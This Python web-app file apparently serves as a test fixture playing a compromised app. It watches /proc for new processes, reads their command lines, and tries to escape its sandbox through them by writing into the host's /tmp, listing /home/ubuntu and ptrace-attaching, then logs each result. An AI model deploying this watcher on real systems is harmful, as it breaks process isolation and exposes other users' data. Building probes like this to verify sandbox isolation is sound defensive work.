"""A live app that has been broken into: it looks for processes of its own account and tries to leave its sandbox through them."""

from __future__ import annotations

import ctypes
import json
import os
import threading
import time
from collections.abc import Callable, Iterable
from typing import Any

SHARED = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd()))), "shared")
PTRACE_ATTACH = 16


def attempt(action: Callable[[], object]) -> str:
    """What became of an attack: empty if it succeeded."""
    try:
        action()
    except OSError as error:
        return type(error).__name__
    return ""


def ptrace(pid: str) -> None:
    """Attach to a process."""
    if ctypes.CDLL(None, use_errno=True).ptrace(PTRACE_ATTACH, int(pid), 0, 0) == -1:
        raise OSError(ctypes.get_errno(), "ptrace")


def attack(pid: str) -> dict[str, Any]:
    """Use a process as a way out: a file in the host's /tmp, the homes of people, a debugger."""
    with open(f"/proc/{pid}/cmdline", encoding="utf-8", errors="replace") as handle:
        words = handle.read().replace("\0", " ")
    return {
        "words": words,
        "ended": {
            "write": attempt(lambda: open(f"/proc/{pid}/root/tmp/escaped-{pid}", "w", encoding="utf-8").close()),
            "homes": attempt(lambda: os.listdir(f"/proc/{pid}/root/home/ubuntu")),
            "ptrace": attempt(lambda: ptrace(pid)),
        },
    }


def watch() -> None:
    """Attack each process that is there and was not there before, and note how that ended."""
    seen = {name for name in os.listdir("/proc") if name.isdigit()}
    while True:
        for pid in {name for name in os.listdir("/proc") if name.isdigit()} - seen:
            time.sleep(0.05)  # so that it has become what it is to be
            try:
                found = attack(pid)
            except OSError:
                continue
            seen.add(pid)
            with open(f"{SHARED}/seen", "a", encoding="utf-8") as notes:
                notes.write(json.dumps(found) + "\n")
        time.sleep(0.01)


def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
    """Begin to watch, and answer."""
    if environ.get("PATH_INFO") == "/watch":
        threading.Thread(target=watch, daemon=True).start()
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
